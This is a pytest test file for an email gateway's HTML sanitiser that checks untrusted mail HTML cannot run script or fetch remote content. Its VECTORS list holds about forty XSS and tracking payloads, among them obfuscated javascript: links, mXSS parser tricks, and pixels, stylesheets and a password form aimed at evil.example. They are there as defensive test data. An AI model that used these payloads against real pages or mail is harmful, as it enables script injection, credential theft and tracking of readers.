"""Row I7: what of a stranger's HTML may be shown, judged by a parser of its own."""

from __future__ import annotations

import base64
import re
from html.parser import HTMLParser

import pytest

from gateway.mime.harmless import harmless
from gateway.mime.sheet import enclosures, fragment
from tests.corpus import corpus_messages, needs_corpus

PIXEL = base64.b64decode("R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==")
DATA = "data:image/gif;base64," + base64.b64encode(PIXEL).decode()

ACTIVE = frozenset(
    (
        *("script", "style", "svg", "math", "iframe", "frame", "frameset", "object", "embed", "applet", "base", "meta"),
        *("link", "form", "input", "button", "select", "textarea", "template", "noscript", "audio", "video", "source"),
        *("body", "html", "head", "title", "portal", "dialog", "details", "xmp", "plaintext", "noembed", "noframes"),
    )
)

FORBIDDEN = frozenset({"style", "id", "class", "name", "srcset", "action", "background", "ping", "target", "poster"})


class Judge(HTMLParser):
    """Notes each tag that acts, each attribute that acts or loads, and each link that is none."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ACTIVE or ":" in tag:
            self.wrong.append(tag)
        for name, value in attrs:
            if (name, value) != ("class", "letter") and not self._is_harmless(tag, name, value or ""):
                self.wrong.append(f"{tag} {name}={value}")

    def _is_harmless(self, tag: str, name: str, value: str) -> bool:
        said = re.sub(r"[\x00-\x20]", "", value).lower()
        if name == "src":
            return tag == "img" and bool(re.match(r"data:image/(png|jpeg|gif|webp);base64,[a-z0-9+/=]*$", said))
        if name == "href":
            return tag == "a" and said.startswith(("https://", "http://", "mailto:", "tel:"))
        if name in {"width", "height"}:
            return bool(re.fullmatch(r"[0-9]+%?", said))
        return not name.startswith("on") and name not in FORBIDDEN

    def handle_comment(self, data: str) -> None:
        self.wrong.append(f"comment {data[:40]}")

    def handle_decl(self, decl: str) -> None:
        self.wrong.append(f"declaration {decl[:40]}")


def wrong_in(page: str) -> list[str]:
    judge = Judge()
    judge.feed(page)
    judge.close()
    return judge.wrong


VECTORS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='http://evil.example/pixel.gif?al'>",
    "<img src='//evil.example/pixel.gif'>",
    "<img srcset='https://evil.example/1 1x' src=data:image/svg+xml,<svg/onload=alert(1)>>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a><a href='file:///etc/passwd'>y</a><a href='cid:x'>z</a><a href='/v1/apply'>w</a>",
    "<svg/onload=alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<form action=https://evil.example/><input name=password><button formaction=javascript:x>ok</button></form>",
    "<style>@import 'https://evil.example/x.css'; body{background:url(https://evil.example/p)}</style>",
    "<p style='background:url(https://evil.example/p);width:expression(alert(1))'>x</p>",
    "<table background='https://evil.example/p'><tr><td background=x>x</td></tr></table>",
    "<body onload=alert(1) background=https://evil.example/p>x</body>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<object data=https://evil.example/x></object><embed src=https://evil.example/x>",
    "<video poster=https://evil.example/p src=https://evil.example/v></video><audio src=https://evil.example/a>",
    "<input type=image src=https://evil.example/p><isindex type=image src=x>",
    "<div id=x name=y class=warning>x</div>",
    "<a href=https://a.example ping=https://evil.example/ target=_top>x</a>",
    "<img src=cid:else@other><img src='CID:else@other'>",
    "<template><img src=x onerror=alert(1)></template><xmp><script>x</script></xmp><plaintext><script>x",
    "<<script>script>alert(1)<</script>/script>",
    "</div></div></body></html><script>alert(1)</script>",
    '<a href=https://x.example onclick="alert(1)" style="position:fixed;top:0;width:100%">x</a>',
    "<img width='1;url(x)' height=javascript:x alt='\"><script>alert(1)</script>'>",
]


@pytest.mark.parametrize("page", VECTORS)
def test_I7_nothing_acts_and_nothing_is_fetched(page: str) -> None:
    assert wrong_in(page), "the judge sees nothing wrong with it"
    clean = harmless(page, {"one@here": DATA})
    assert wrong_in(clean) == []
    assert wrong_in(harmless(clean, {})) == [], "what is clean stays so when it is read again"
    assert "evil.example" not in re.sub(r"&lt;.*", "", clean)


def test_what_a_letter_is_made_of_stays() -> None:
    page = (
        "<p dir='rtl' lang='he'>Sum: <b>12</b></p>"
        "<blockquote type=cite>quoted<blockquote>twice</blockquote></blockquote>"
        "<table border=1><tr><td colspan='2' align=right>x</td></tr></table>"
        "<a href='https://x.example/a?b=1&amp;c=2'>l</a>"
        "<img src='cid:one@here' alt='Scan' width=10><img src='cid:one%40here'>"
    )
    clean = harmless(page, {"one@here": DATA})
    assert '<p dir="rtl" lang="he">Sum: <b>12</b></p>' in clean
    assert "<blockquote>quoted<blockquote>twice</blockquote></blockquote>" in clean
    assert '<td colspan="2" align="right">x</td>' in clean
    assert 'href="https://x.example/a?b=1&amp;c=2"' in clean
    assert clean.count(DATA) == 2
    assert 'alt="Scan"' in clean


def message(html: str, *parts: str, boundary: str = "b") -> bytes:
    encoded = base64.b64encode(html.encode()).decode()
    body = f"Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n{encoded}"
    inner = f"\r\n--{boundary}\r\n".join([body, *parts])
    head = f"Subject: x\r\nContent-Type: multipart/related; boundary={boundary}\r\n\r\n"
    return f"{head}--{boundary}\r\n{inner}\r\n--{boundary}--\r\n".encode()


def picture(name: str, content_type: str = "image/gif") -> str:
    coded = base64.b64encode(PIXEL).decode()
    return f"Content-Type: {content_type}\r\nContent-ID: <{name}>\r\nContent-Transfer-Encoding: base64\r\n\r\n{coded}"


def test_I7_pictures_are_those_of_the_same_message_only() -> None:
    html = "<img src=cid:mine><img src=cid:other><img src=cid:drawing><img src=https://evil.example/p>"
    svg = "Content-Type: image/svg+xml\r\nContent-ID: <drawing>\r\n\r\n<svg onload=alert(1)/>"
    enclosed = message("<img src=cid:other>", picture("other"), boundary="inner").decode()
    shown = fragment(message(html, picture("mine"), svg, f"Content-Type: message/rfc822\r\n\r\n{enclosed}"))
    assert shown.count("src=") == 1
    assert DATA in shown
    assert wrong_in(shown) == []


def test_text_is_shown_as_text() -> None:
    raw = b"Content-Type: text/plain; charset=utf-8\r\n\r\n<b>1 < 2</b> & {{7*7}} \x1b[2J\r\n> quoted\r\n"
    assert fragment(raw) == "<pre>&lt;b&gt;1 &lt; 2&lt;/b&gt; &amp; {{7*7}} [2J\n&gt; quoted\n</pre>"


def test_of_an_alternative_only_the_html_is_shown() -> None:
    raw = (
        b"Content-Type: multipart/alternative; boundary=b\r\n\r\n--b\r\n\r\nplain words\r\n--b\r\n"
        b"Content-Type: text/html\r\n\r\n<p>rich words</p>\r\n--b--\r\n"
    )
    assert fragment(raw) == '<div class="letter"><p>rich words</p></div>'


@pytest.mark.corpus
@needs_corpus
def test_I7_no_real_message_becomes_a_page_that_acts() -> None:
    pages = 0
    for path in corpus_messages():
        raw = path.read_bytes()
        shown = fragment(raw)
        pages += '<div class="letter">' in shown
        assert wrong_in(shown) == [], path
        assert all(one.size >= 0 for one in enclosures(raw))
    assert pages > 100
